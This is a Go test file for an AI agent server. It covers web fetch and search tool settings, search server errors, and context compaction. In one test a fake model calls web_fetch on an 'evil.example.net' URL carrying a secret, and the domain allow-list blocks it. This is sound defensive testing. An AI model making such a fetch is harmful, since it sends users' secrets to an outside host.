package app_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/reeve-ai/reeve/internal/app/apptest"
	"github.com/reeve-ai/reeve/internal/config"
	"github.com/reeve-ai/reeve/internal/core"
	"github.com/reeve-ai/reeve/internal/provider/fake"
)

// webTools is a toolset with settings of the two web tools.
func webTools(fetch, search object) []any {
	fetch["name"], search["name"] = "web_fetch", "web_search"
	return []any{object{"type": "agent_toolset_20260401", "default_config": object{"enabled": false}, "configs": []any{fetch, search}}}
}

func TestSettingsOfWebToolsReachTheTool(t *testing.T) {
	t.Parallel()
	srv := apptest.Start(t, fake.CallTool("web_fetch", `{"url":"https://evil.example.net/?q=secret"}`), fake.Say("I may not."))
	sess := srv.NewSessionOf(t, srv.NewAgent(t, func(a map[string]any) {
		a["tools"] = webTools(object{"enabled": true, "allowed_domains": []any{"docs.example.com"}, "max_content_tokens": 500}, object{"enabled": true})
	}))
	sess.Send(t, "Fetch it.")
	events := sess.UntilIdle(t)
	results := apptest.Find(events, "agent.tool_result")
	if len(results) != 1 || results[0].Data["is_error"] != true {
		t.Fatalf("events %q, results %v", apptest.Types(events), results)
	}
	if text := results[0].Data["content"].([]any)[0].(object)["text"].(string); !strings.Contains(text, `"code":"url_not_allowed"`) {
		t.Errorf("the model reads %s", text)
	}
	tools := srv.Fake.Requests()[0].Tools
	if len(tools) != 1 || !strings.Contains(tools[0].Description, "Only these sites, with everything below them, can be reached: docs.example.com.") ||
		!strings.Contains(tools[0].Description, "about 500 tokens") {
		t.Errorf("the model is told of %+v", tools) // and of no web_search: there is no search server
	}
}

func TestSearchIsThereWithASearchServer(t *testing.T) {
	t.Parallel()
	searx := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Query().Get("q") == "nothing" {
			w.WriteHeader(http.StatusBadGateway)
			return
		}
		_, _ = io.WriteString(w, `{"results":[{"url":"https://go.dev/","title":"Go"},{"url":"https://ads.example.com/","title":"Ad"}]}`)
	}))
	t.Cleanup(searx.Close)
	srv := apptest.StartWith(t, fake.New(
		fake.CallTools(fake.Call{Name: "web_search", Input: `{"query":"go"}`}, fake.Call{Name: "web_search", Input: `{"query":"nothing"}`}), fake.Say("Found."),
	), apptest.WithConfig(func(c *config.Config) { c.Tools.SearchURL = searx.URL + "/search" }))
	sess := srv.NewSessionOf(t, srv.NewAgent(t, func(a map[string]any) {
		a["tools"] = webTools(object{"enabled": false}, object{
			"enabled": true, "blocked_domains": []any{"example.com"}, "user_location": object{"type": "approximate", "city": "Köln", "country": "DE"},
		})
	}))
	sess.Send(t, "Search.")
	var texts []string
	for _, r := range apptest.Find(sess.UntilIdle(t), "agent.tool_result") {
		texts = append(texts, r.Data["content"].([]any)[0].(object)["text"].(string))
	}
	slices.Sort(texts)
	if d := cmp.Diff([]string{
		`{"error":"The search server of this installation sent no proper answer: its status is 502.","code":"search_failed"}`,
		`{"query":"go","results":[{"title":"Go","url":"https://go.dev/","text":""}]}`,
	}, texts); d != "" {
		t.Errorf("results (-want +got):\n%s", d)
	}
	if spec := srv.Fake.Requests()[0].Tools[0]; spec.Name != "web_search" || !strings.Contains(spec.Description, "roughly here: Köln, DE.") {
		t.Errorf("the model is told %+v", spec)
	}
	used := sess.State(t)["usage"].(object)["server_tool_use"].(object)
	if used["web_search_requests"] != 1.0 || used["web_fetch_requests"] != 0.0 {
		t.Errorf("server tool use = %v", used)
	}
}

func TestCompactionIsAnnouncedAndTheHistoryStays(t *testing.T) {
	t.Parallel()
	srv := apptest.Start(t, fake.Say("Old answer.").And(fake.Usage(core.Usage{InputTokens: 100_000, CacheReadTokens: 70_000, OutputTokens: 5})), fake.Say("THE SUMMARY"), fake.Say("New answer."))
	sess := srv.NewSession(t)
	old := "Old question." + strings.Repeat(" And more.", 20_000) // worth summing up
	sess.Send(t, old)
	sess.UntilIdle(t)
	sess.Send(t, "New question.")
	events := sess.UntilIdle(t)
	said := apptest.Find(events, "agent.thread_context_compacted")
	if len(said) != 1 {
		t.Fatalf("events %q", apptest.Types(events))
	}
	if d := cmp.Diff(object{"id": said[0].ID, "type": "agent.thread_context_compacted", "processed_at": said[0].Data["processed_at"]}, said[0].Data); d != "" || said[0].Data["processed_at"] == nil {
		t.Errorf("event (-want +got):\n%s", d)
	}
	var log []string
	for _, e := range sess.Log(t) {
		if e.Type == "user.message" || e.Type == "agent.message" || e.Type == "agent.thread_context_compacted" {
			log = append(log, e.Type+" "+e.Say())
		}
		if strings.Contains(e.Say(), "THE SUMMARY") {
			t.Error("the summary is listed")
		}
	}
	if d := cmp.Diff([]string{"user.message " + old, "agent.message Old answer.", "user.message New question.", "agent.thread_context_compacted ", "agent.message New answer."}, log); d != "" {
		t.Errorf("the log lists (-want +got):\n%s", d)
	}
	last := srv.Fake.Requests()[2].Messages
	if text := last[0].Parts[0].Block.Text; !strings.Contains(text, "THE SUMMARY") {
		t.Errorf("the model reads %q", text)
	}
	if got := sess.State(t)["usage"].(object)["output_tokens"]; got != 15.0 {
		t.Errorf("output tokens = %v, those of the summary are part of it", got)
	}
}
